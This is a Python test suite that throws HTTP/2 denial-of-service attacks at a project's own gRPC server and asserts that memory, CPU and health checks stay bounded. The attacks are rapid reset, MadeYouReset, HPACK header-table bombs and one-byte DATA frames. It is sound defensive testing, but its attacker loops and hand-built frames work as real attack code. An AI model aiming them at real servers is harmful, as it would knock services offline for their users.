"""HTTP/2 and resource-level abuse against the Swift server (`sluice-interop serve`),
from a raw HTTP/2 client (h2 library over TLS) and grpcio. Each attack runs for a
bounded time; the server must stay within its memory budget (README, "Memory
budget"), answer a separate client's health checks within a second meanwhile, and
give CPU back promptly when the attack stops.

- connection churn leaves nothing behind, whether calls finish or connections are abandoned
  mid-call, broken or empty (issue 9, item 13)
- rapid reset with reconnects (CVE-2023-44487, item 14)
- MadeYouReset: WINDOW_UPDATE overflow makes the server reset (CVE-2025-8671, item 15)
- a message in one-byte DATA frames is reassembled in linear time (item 16)
- stalled readers and never-finished request messages (item 17)
- header blocks of one-byte references to a 4 KiB table entry (item 18)
- the stream past the limit is refused alone; no preface closes the connection (item 20)

Memory is read from /proc/PID/status (VmRSS), CPU from /proc/PID/stat. Bounds are
generous: the machine is shared, and the server is a debug build."""

from __future__ import annotations

import collections
import os
import socket
import ssl
import struct
import threading
import time
from typing import Optional

import grpc
import h2.settings
import pytest
from grpc_health.v1 import health_pb2, health_pb2_grpc

import interop_support as sup
from raw_h2 import RawH2, grpc_frame
from servers import require_binary, swift_serve_argv

echo_pb2, _ = sup.echo_modules()

MIB = sup.MIB
ECHO = "/sluice.interop.v1.EchoService/"
UNARY = ECHO + "UnaryEcho"
CLIENT_STREAM = ECHO + "ClientStreamEcho"
SERVER_STREAM = ECHO + "ServerStreamEcho"

ENHANCE_YOUR_CALM = 0xB
REFUSED_STREAM = 0x7
CANCEL = 0x8
NO_ERROR = 0x0
UNAVAILABLE = 14
PROTOCOL_ERROR = 0x1

ATTACK_SECONDS = 8.0
# Health checks of another client during an attack: each must answer within this.
HEALTH_DEADLINE = 1.0


# ---- the server and its resources ------------------------------------------------

class Server:
    """A `sluice-interop serve` subprocess of its own (attacks must not share one)."""

    def __init__(self, certs: sup.Certs, workdir: str, extra: list):
        binary = require_binary("sluice-interop")
        self.certs = certs
        self.host = "127.0.0.1"
        self.port = sup.free_port()
        argv = swift_serve_argv(binary, self.port, certs) + list(extra)
        log = os.path.join(workdir, f"abuse-serve-{self.port}.log")
        env = {k: v for k, v in os.environ.items() if not k.startswith("SLUICED_")}
        self.proc = sup.ManagedProcess(argv, log, env=env).start()
        sup.wait_for_listen(self.proc, self.host, self.port)

    @property
    def pid(self) -> int:
        return self.proc.proc.pid

    def rss_mib(self) -> float:
        with open(f"/proc/{self.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
        raise AssertionError("no VmRSS")

    def cpu_seconds(self) -> float:
        with open(f"/proc/{self.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def channel(self) -> grpc.Channel:
        return sup.secure_channel(f"{self.host}:{self.port}", self.certs)

    def raw(self, window: int = 16 * MIB) -> RawH2:
        return RawH2(self.host, self.port, self.certs).connect(window=window)

    def assert_alive(self) -> None:
        assert self.proc.alive(), f"server exited:\n{self.proc.tail()}"

    def stop(self) -> None:
        self.proc.stop()


@pytest.fixture
def start_server(certs, workdir):
    started = []

    def start(*extra: str) -> Server:
        server = Server(certs, workdir, list(extra))
        started.append(server)
        return server

    yield start
    for server in started:
        server.stop()


class HealthProbe:
    """Checks health from its own connection every 0.2 s while running, each check
    with a 1 s deadline, and remembers every failure."""

    def __init__(self, server: Server):
        self.channel = server.channel()
        self.stub = health_pb2_grpc.HealthStub(self.channel)
        # Connected before the attack starts.
        self.stub.Check(health_pb2.HealthCheckRequest(), timeout=10)
        self.stop_event = threading.Event()
        self.checks = 0
        self.failures: list = []
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        deadline = time.monotonic() + 60
        while not self.stop_event.is_set() and time.monotonic() < deadline:
            started = time.monotonic()
            try:
                self.stub.Check(health_pb2.HealthCheckRequest(), timeout=HEALTH_DEADLINE)
            except grpc.RpcError as e:
                self.failures.append((round(started, 2), e.code(), e.details()))
            self.checks += 1
            self.stop_event.wait(0.2)

    def __enter__(self) -> "HealthProbe":
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.stop_event.set()
        self.thread.join(timeout=10)
        self.channel.close()

    def assert_healthy(self) -> None:
        """Every check answered within the deadline, but for one in twenty (at least one):
        the machine that runs the tests is shared, and a debug build is slow. Before the
        fixes most checks missed it (6 of 8 under rapid reset)."""
        assert self.checks >= 5, f"only {self.checks} health checks ran"
        allowed = max(1, self.checks // 20)
        assert len(self.failures) <= allowed, (
            f"{len(self.failures)} of {self.checks} health checks missed the "
            f"{HEALTH_DEADLINE}s deadline: {self.failures[:5]}")


class RssSampler:
    """Samples the server's RSS every 0.1 s; `peak` is the highest seen."""

    def __init__(self, server: Server):
        self.server = server
        self.peak = server.rss_mib()
        self.stop_event = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        for _ in range(1200):
            if self.stop_event.is_set():
                return
            try:
                self.peak = max(self.peak, self.server.rss_mib())
            except OSError:
                return
            self.stop_event.wait(0.1)

    def __enter__(self) -> "RssSampler":
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.stop_event.set()
        self.thread.join(timeout=10)


def settled_rss(server: Server, seconds: float = 1.0) -> float:
    time.sleep(seconds)
    return server.rss_mib()


def rss_returned(server: Server, baseline: float, margin: float, within: float = 12.0) -> float:
    """The server's RSS once it is within `margin` MiB of `baseline`, or after `within`
    seconds (freed memory goes back to the system every few seconds)."""
    end = time.monotonic() + within
    rss = server.rss_mib()
    while rss - baseline >= margin and time.monotonic() < end:
        time.sleep(0.5)
        rss = server.rss_mib()
    return rss


def assert_cpu_recovers(server: Server, within: float = 5.0, idle_share: float = 0.3) -> None:
    """After an attack the server's CPU use drops below `idle_share` of a core (over a
    1 s window) within `within` seconds."""
    end = time.monotonic() + within
    shares = []
    while time.monotonic() < end:
        before = server.cpu_seconds()
        time.sleep(1.0)
        shares.append(round(server.cpu_seconds() - before, 2))
        if shares[-1] < idle_share:
            return
    raise AssertionError(f"server CPU stayed busy after the attack: {shares} CPU-s per second")


def run_attackers(count: int, target, seconds: float = ATTACK_SECONDS) -> list:
    """Runs `target(stop_event, report)` in `count` threads for `seconds`; returns the
    report dicts."""
    stop = threading.Event()
    reports = [collections.Counter() for _ in range(count)]
    threads = [threading.Thread(target=_guarded, args=(target, stop, r), daemon=True)
               for r in reports]
    for t in threads:
        t.start()
    stop.wait(seconds)
    stop.set()
    for t in threads:
        t.join(timeout=15)
    return reports


def _guarded(target, stop, report) -> None:
    try:
        target(stop, report)
    except Exception as e:  # an attacker that fails ends its own run only
        report["error:" + type(e).__name__] += 1


def window_update(stream_id: int, increment: int) -> bytes:
    return struct.pack(">I", 4)[1:] + b"\x08\x00" + struct.pack(">II", stream_id, increment)


def frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def read_available(h: RawH2, seconds: float = 0.0) -> None:
    """Reads what the server sent (up to `seconds`)."""
    h.pump(seconds)


def wait_for_server_settings(h: RawH2, timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline and not h.closed:
        h.pump(0.2)
        if h.conn.remote_settings.max_concurrent_streams < 2 ** 31:
            return
    raise AssertionError("the server's SETTINGS did not arrive")


# ---- item 13: connections leave nothing behind ----------------------------------

def _connect_and_call(server: Server, count: int) -> None:
    for i in range(count):
        with server.raw() as h:
            sid = h.unary(UNARY, echo_pb2.EchoRequest(payload=b"%d" % i).SerializeToString())
            st = h.wait(sid)
            assert st.grpc_status == 0, st


def test_connection_churn_returns_memory(start_server):
    """1,200 connections that each make a call and close leave the server's RSS near
    where it was (they leaked ~67 KiB each: 80 MiB)."""
    server = start_server()
    growth = _rss_growth_over(server, lambda count, _: _connect_and_call(server, count), settle=2.0)
    assert growth < 20, f"RSS grew {growth:.1f} MiB over 1,200 connections"


def _rss_growth_over(server: Server, connect, settle: float) -> float:
    """How far the server's settled RSS moved while four threads each made 300 connections
    with `connect(count, thread)`, after 200 made first to warm allocator pools and lazily
    built tables up; the server must still be alive."""
    connect(200, 0)
    baseline = settled_rss(server)
    threads = [threading.Thread(target=connect, args=(300, n)) for n in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=180)
    after = settled_rss(server, settle)
    server.assert_alive()
    return after - baseline


def _abandon_connections(server: Server, count: int, shift: int) -> None:
    """Connections dropped the ways an attacker (or a crashing client) leaves them: a
    server-streaming call still sending, request headers with no body, a frame that breaks
    the protocol, a TLS handshake and nothing after it."""
    for i in range(count):
        shape = (i + shift) % 4
        h = server.raw() if shape != 3 else RawH2(server.host, server.port, server.certs).connect(preface=False)
        try:
            if shape == 0:
                sid = h.new_stream()
                h.send_headers(sid, h.request_headers(SERVER_STREAM))
                h.send_data(sid, grpc_frame(echo_pb2.EchoRequest(
                    response_size=64 * 1024, response_count=1000).SerializeToString()), end_stream=True)
                read_available(h, 0.02)
            elif shape == 1:
                sid = h.new_stream()
                h.send_headers(sid, h.request_headers(UNARY))
                h.flush()
            elif shape == 2:
                # A DATA frame on stream 0: a connection error (PROTOCOL_ERROR).
                h.send_raw(struct.pack(">I", 5)[1:] + bytes([0, 0]) + struct.pack(">I", 0) + b"hello")
        except (OSError, ssl.SSLError):
            pass
        h.close()


def test_abandoned_connections_return_memory(start_server):
    """1,200 connections left mid-call, mid-request, broken or empty leave the server's RSS
    near where it was: a connection's session, streams and handler tasks go with it however
    it ends (a leak of the fuzzer's 45 KiB per connection would be 53 MiB)."""
    server = start_server()
    growth = _rss_growth_over(server, lambda count, n: _abandon_connections(server, count, n), settle=3.0)
    with server.raw() as h:
        done = h.wait(h.unary(UNARY, echo_pb2.EchoRequest(payload=b"after").SerializeToString()))
        assert done.grpc_status == 0, done
    assert growth < 20, f"RSS grew {growth:.1f} MiB over 1,200 abandoned connections"


# ---- item 14: rapid reset --------------------------------------------------------

def _rapid_reset(server: Server):
    def attack(stop, report):
        for _ in range(10000):
            if stop.is_set():
                return
            try:
                h = server.raw()
            except OSError:
                report["connect_failed"] += 1
                continue
            report["connections"] += 1
            headers = h.request_headers(CLIENT_STREAM)
            try:
                while not stop.is_set() and not h.closed and h.goaway is None:
                    for _ in range(20):
                        sid = h.conn.get_next_available_stream_id()
                        h.conn.send_headers(sid, headers)
                        h.conn.reset_stream(sid, error_code=CANCEL)
                    h.flush()
                    report["streams"] += 20
                    read_available(h)
            except Exception as e:
                report["client:" + type(e).__name__] += 1
            if h.goaway is not None:
                report[f"goaway:{int(h.goaway.error_code)}"] += 1
            h.close()
    return attack


def test_rapid_reset_with_reconnects(start_server):
    """Four clients open and reset streams as fast as they can, reconnecting whenever
    the server sends GOAWAY. The server bounds handlers, answers health checks, keeps
    its memory and calms down once they stop."""
    server = start_server()
    baseline = settled_rss(server, 0.5)
    with HealthProbe(server) as probe, RssSampler(server) as rss:
        reports = run_attackers(4, _rapid_reset(server))
    total = sum(reports, collections.Counter())
    print("rapid reset:", dict(total), f"peak RSS {rss.peak:.0f} MiB (baseline {baseline:.0f})")
    server.assert_alive()
    assert total["streams"] > 1000, total
    assert total[f"goaway:{ENHANCE_YOUR_CALM}"] >= 1, f"no connection got ENHANCE_YOUR_CALM: {total}"
    assert rss.peak - baseline < 200, f"RSS grew {rss.peak - baseline:.0f} MiB under rapid reset"
    probe.assert_healthy()
    assert_cpu_recovers(server)
    with server.channel() as ch:
        assert server_stub(ch).UnaryEcho(echo_pb2.EchoRequest(payload=b"after"), timeout=10).payload == b"after"


def server_stub(channel):
    _, echo_grpc = sup.echo_modules()
    return echo_grpc.EchoServiceStub(channel)


# ---- item 15: MadeYouReset -------------------------------------------------------

def _made_you_reset(server: Server, per_connection_cap: int = 5000):
    request = grpc_frame(echo_pb2.EchoRequest(payload=b"x").SerializeToString())

    def attack(stop, report):
        for _ in range(10000):
            if stop.is_set():
                return
            try:
                h = server.raw()
            except OSError:
                report["connect_failed"] += 1
                continue
            report["connections"] += 1
            headers = h.request_headers(UNARY)
            sent = 0
            try:
                while (not stop.is_set() and not h.closed and h.goaway is None
                       and sent < per_connection_cap):
                    out = bytearray()
                    for _ in range(10):
                        sid = h.conn.get_next_available_stream_id()
                        h.conn.send_headers(sid, headers)
                        h.conn.send_data(sid, request, end_stream=True)
                        out += h.conn.data_to_send()
                        # Overflows the server's send window: it must reset the stream.
                        out += window_update(sid, 0x7FFFFFFF)
                        sent += 1
                    h.send_raw(bytes(out))
                    read_available(h)
                    # Let the server's resets arrive before h2 counts 256 streams open.
                    for _ in range(50):
                        if h.closed or h.goaway is not None or h.conn.open_outbound_streams < 200:
                            break
                        read_available(h, 0.05)
            except Exception as e:
                report["client:" + type(e).__name__] += 1
            report["streams"] += sent
            if h.goaway is not None:
                report[f"goaway:{int(h.goaway.error_code)}"] += 1
                # Streams the server processed on the connection before it gave up on it.
                processed = (h.goaway.last_stream_id + 1) // 2
                report["max_processed_on_a_connection"] = max(report["max_processed_on_a_connection"], processed)
            h.close()
    return attack


def test_made_you_reset(start_server):
    """HEADERS + DATA(END_STREAM) + WINDOW_UPDATE(stream, 2^31-1): every stream is reset
    by the server itself. Those resets count like the client's: the connection gets
    ENHANCE_YOUR_CALM long before 5,000 streams, and memory stays bounded."""
    server = start_server()
    baseline = settled_rss(server, 0.5)
    with HealthProbe(server) as probe, RssSampler(server) as rss:
        reports = run_attackers(3, _made_you_reset(server))
    total = sum(reports, collections.Counter())
    print("MadeYouReset:", dict(total), f"peak RSS {rss.peak:.0f} MiB (baseline {baseline:.0f})")
    server.assert_alive()
    assert total[f"goaway:{ENHANCE_YOUR_CALM}"] >= 1, f"no connection got ENHANCE_YOUR_CALM: {total}"
    # Streams whose WINDOW_UPDATE arrives after they were answered are served, not reset,
    # so a connection may process more streams than its reset budget.
    assert max(r["max_processed_on_a_connection"] for r in reports) < 3000, total
    assert rss.peak - baseline < 200, f"RSS grew {rss.peak - baseline:.0f} MiB under MadeYouReset"
    probe.assert_healthy()
    assert_cpu_recovers(server)


# ---- item 16: one-byte DATA frames ---------------------------------------------

def test_message_in_one_byte_data_frames(start_server):
    """A 512 KiB request message sent as one-byte DATA frames is answered, at a CPU
    cost linear in its size (the deframer's quadratic reassembly took minutes)."""
    server = start_server()
    payload = bytes(range(256)) * 2048
    body = grpc_frame(echo_pb2.EchoRequest(payload=payload).SerializeToString())
    with server.raw() as h:
        wait_for_server_settings(h)
        sid = h.new_stream()
        h.send_headers(sid, h.request_headers(UNARY))
        # DATA frames built by hand: h2 would take far longer to make half a million.
        frames = b"".join(frame(0x0, 0x0, sid, body[i:i + 1]) for i in range(len(body) - 1))
        frames += frame(0x0, 0x1, sid, body[-1:])
        cpu_before = server.cpu_seconds()
        h.send_raw(frames, timeout=60)
        st = h.wait(sid, timeout=120)
        cpu = server.cpu_seconds() - cpu_before
    assert st.grpc_status == 0, st
    assert echo_pb2.EchoResponse.FromString(st.messages()[0]).payload == payload
    assert cpu < 30, f"{len(body)} one-byte DATA frames cost {cpu:.1f} CPU-s"


# ---- item 17: stalled readers and unfinished request messages -------------------

STALL_TIMEOUT = 3


def test_stalled_readers_hold_bounded_memory(start_server):
    """4 connections x 64 ServerStreamEcho streams whose client never opens its window:
    the server serializes nothing past the window and a small high-water mark, answers
    health checks, and resets the streams after the stall timeout."""
    server = start_server("--stream-stall-timeout", str(STALL_TIMEOUT))
    baseline = settled_rss(server, 0.5)
    request = grpc_frame(echo_pb2.EchoRequest(
        response_count=1000, response_size=64 * 1024).SerializeToString())
    conns = []
    try:
        with HealthProbe(server) as probe, RssSampler(server) as rss:
            for _ in range(4):
                h = server.raw(window=0)
                wait_for_server_settings(h)
                for _ in range(64):
                    sid = h.new_stream()
                    h.send_headers(sid, h.request_headers(SERVER_STREAM))
                    h.send_data(sid, request, end_stream=True)
                conns.append(h)
            time.sleep(2.0)
            stalled_peak = rss.peak
            # the stall timeout, or the 10 s a call waits for room in its budgets, with margin
            deadline = time.monotonic() + STALL_TIMEOUT + 10 + 5
            while time.monotonic() < deadline:
                for h in conns:
                    h.pump(0.05)
                if all(st.reset is not None for h in conns for st in h.streams.values()):
                    break
        reset_codes = collections.Counter(st.reset for h in conns for st in h.streams.values())
    finally:
        for h in conns:
            h.close()
    print(f"stalled readers: peak {stalled_peak:.0f} MiB (baseline {baseline:.0f}), resets {dict(reset_codes)}")
    server.assert_alive()
    assert stalled_peak - baseline < 80, f"256 stalled streams grew RSS {stalled_peak - baseline:.0f} MiB"
    assert reset_codes == {CANCEL: 256}, f"stalled streams were not all reset: {dict(reset_codes)}"
    probe.assert_healthy()


def test_unfinished_request_messages_are_cut_off(start_server):
    """4 connections x 64 streams each send 768 KiB of a declared 4 MiB message and
    stop. Every stream ends and its memory returns: reset after the stall timeout, or —
    past what one client certificate may reserve for request messages (128 MiB, 32 of
    these) — answered UNAVAILABLE when its wait for room ends."""
    server = start_server("--stream-stall-timeout", str(STALL_TIMEOUT))
    baseline = settled_rss(server, 0.5)
    prefix = struct.pack(">BI", 0, 4 * MIB - 16)
    chunk = prefix + b"\x0a" + b"p" * (768 * 1024)
    conns = []
    try:
        with HealthProbe(server) as probe:
            for _ in range(4):
                h = server.raw()
                wait_for_server_settings(h)
                for _ in range(64):
                    sid = h.new_stream()
                    h.send_headers(sid, h.request_headers(CLIENT_STREAM))
                    h.send_data(sid, chunk, timeout=30)
                conns.append(h)
            loaded = server.rss_mib()
            # the stall timeout, or the 10 s a call waits for room in its budgets, with margin
            deadline = time.monotonic() + STALL_TIMEOUT + 10 + 5
            while time.monotonic() < deadline:
                for h in conns:
                    h.pump(0.05)
                if all(st.finished for h in conns for st in h.streams.values()):
                    break
        outcomes = collections.Counter(
            (st.reset, st.grpc_status) for h in conns for st in h.streams.values())
    finally:
        for h in conns:
            h.close()
    after = rss_returned(server, baseline, 64)
    print(f"unfinished messages: loaded {loaded:.0f} MiB, after {after:.0f} MiB "
          f"(baseline {baseline:.0f}), outcomes {dict(outcomes)}")
    server.assert_alive()
    ended = {(CANCEL, None), (NO_ERROR, UNAVAILABLE)}
    assert sum(outcomes.values()) == 256 and set(outcomes) <= ended, \
        f"unfinished streams did not all end: {dict(outcomes)}"
    assert outcomes[(CANCEL, None)] > 0, f"no stream was reset by the stall timeout: {dict(outcomes)}"
    assert loaded - baseline < 400, f"256 unfinished messages grew RSS {loaded - baseline:.0f} MiB"
    assert after - baseline < 64, f"RSS stayed {after - baseline:.0f} MiB above baseline"
    probe.assert_healthy()


# ---- item 18: header blocks of one-byte table references -------------------------

def _tls_socket(server: Server) -> ssl.SSLSocket:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.load_verify_locations(server.certs.ca)
    ctx.load_cert_chain(*server.certs.client("client"))
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((server.host, server.port), timeout=10)
    return ctx.wrap_socket(raw, server_hostname="localhost")


def _literal(name: bytes, value: bytes, indexing: bool = False) -> bytes:
    """An HPACK literal with a literal name (lengths < 127 use one byte; longer values
    use the 7-bit prefix integer continuation)."""
    def integer(n: int) -> bytes:
        if n < 127:
            return bytes([n])
        out = bytearray([127])
        n -= 127
        while n >= 128:
            out.append((n & 0x7F) | 0x80)
            n >>= 7
        out.append(n)
        return bytes(out)
    return (b"\x40" if indexing else b"\x00") + integer(len(name)) + name + integer(len(value)) + value


def _header_bomb(server: Server):
    block_size = 512 * 1024
    frame_size = 64 * 1024

    def attack(stop, report):
        for _ in range(1000):
            if stop.is_set():
                return
            try:
                sock = _tls_socket(server)
            except OSError:
                report["connect_failed"] += 1
                continue
            report["connections"] += 1
            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0, b""))
            # The server's SETTINGS (64 KiB frames) arrive first; acknowledging them lets
            # a 512 KiB block go as HEADERS and 7 CONTINUATIONs (nghttp2 refuses more).
            sock.settimeout(5)
            try:
                sock.recv(65536)
            except OSError:
                pass
            sock.sendall(frame(0x4, 0x1, 0, b""))
            time.sleep(0.05)
            sock.settimeout(0.001)
            sid = 1
            head = (_literal(b":method", b"POST") + _literal(b":scheme", b"https")
                    + _literal(b":path", UNARY.encode()) + _literal(b":authority", b"localhost")
                    + _literal(b"content-type", b"application/grpc"))
            # A 4 KiB entry in the dynamic table (index 62), then one-byte references to it.
            block = head + _literal(b"x-big", b"b" * 4000, indexing=True)
            block += b"\xbe" * (block_size - len(block))
            try:
                while not stop.is_set():
                    out = bytearray()
                    pieces = [block[i:i + frame_size] for i in range(0, len(block), frame_size)]
                    for index, piece in enumerate(pieces):
                        last = index == len(pieces) - 1
                        kind = 0x1 if index == 0 else 0x9
                        flags = (0x4 if last else 0) | (0x1 if index == 0 else 0)
                        out += frame(kind, flags, sid, piece)
                    sock.settimeout(10)
                    sock.sendall(bytes(out))
                    report["streams"] += 1
                    sid += 2
                    block = head + b"\xbe" * (block_size - len(head))
                    sock.settimeout(0.001)
                    try:
                        while sock.recv(1 << 20):
                            pass
                    except (socket.timeout, ssl.SSLWantReadError):
                        pass
            except OSError as e:
                report["closed:" + type(e).__name__] += 1
            finally:
                sock.close()
    return attack


def test_header_blocks_of_table_references(start_server):
    """Four clients send header blocks of 512 KiB made of one-byte references to a
    4 KiB table entry (2 GiB of header list each). Refusing one costs little, and
    health checks keep answering within a second."""
    server = start_server()
    cpu_before = server.cpu_seconds()
    with HealthProbe(server) as probe:
        reports = run_attackers(4, _header_bomb(server))
    cpu = server.cpu_seconds() - cpu_before
    total = sum(reports, collections.Counter())
    print("header bomb:", dict(total), f"server CPU {cpu:.1f} s")
    server.assert_alive()
    assert total["streams"] >= 20, total
    assert cpu / total["streams"] < 0.25, f"{cpu:.1f} CPU-s for {total['streams']} header blocks"
    probe.assert_healthy()
    assert_cpu_recovers(server)


# ---- item 20: the stream past the limit; a connection without a preface ---------

def test_stream_past_the_limit_is_refused_alone(start_server):
    """256 calls are live on a connection; a 257th stream gets RST_STREAM
    REFUSED_STREAM, and the 256 calls complete (nghttp2's GOAWAY PROTOCOL_ERROR used
    to kill them all)."""
    server = start_server()
    message = grpc_frame(echo_pb2.EchoRequest(payload=b"m").SerializeToString())
    with server.raw() as h:
        wait_for_server_settings(h)
        assert h.conn.remote_settings.max_concurrent_streams == 256
        live = []
        for _ in range(256):
            sid = h.new_stream()
            h.send_headers(sid, h.request_headers(CLIENT_STREAM))
            h.send_data(sid, message)
            live.append(sid)
        h.pump(0.5)
        # h2 would refuse to open a stream past the server's limit: lift its view of it.
        h.conn.remote_settings._settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = \
            collections.deque([1000])
        extra = h.new_stream()
        h.send_headers(extra, h.request_headers(CLIENT_STREAM))
        st = h.wait(extra, timeout=10)
        assert st.reset == REFUSED_STREAM, f"257th stream: {st}, GOAWAY {h.goaway}"
        assert h.goaway is None and not h.closed, f"the connection was closed: {h.goaway}"
        for sid in live:
            h.send_data(sid, b"", end_stream=True)
        for sid in live:
            done = h.wait(sid, timeout=20)
            assert done.grpc_status == 0, (sid, done)
            assert echo_pb2.EchoResponse.FromString(done.messages()[0]).received_messages == 1


def test_connection_without_preface_is_closed(start_server):
    """A client that completes TLS and never sends the HTTP/2 preface is disconnected
    after the preface timeout (10 s by default; it used to stay ~80 s)."""
    server = start_server()
    sock = _tls_socket(server)
    started = time.monotonic()
    sock.settimeout(1.0)
    closed_after: Optional[float] = None
    try:
        while time.monotonic() - started < 14:
            try:
                data = sock.recv(65536)
            except socket.timeout:
                continue
            except (ssl.SSLError, OSError):
                data = b""
            if not data:
                closed_after = time.monotonic() - started
                break
    finally:
        sock.close()
    assert closed_after is not None, "the connection without a preface was still open after 14 s"
    assert closed_after >= 5, f"closed after {closed_after:.1f}s, before the preface timeout"
    server.assert_alive()
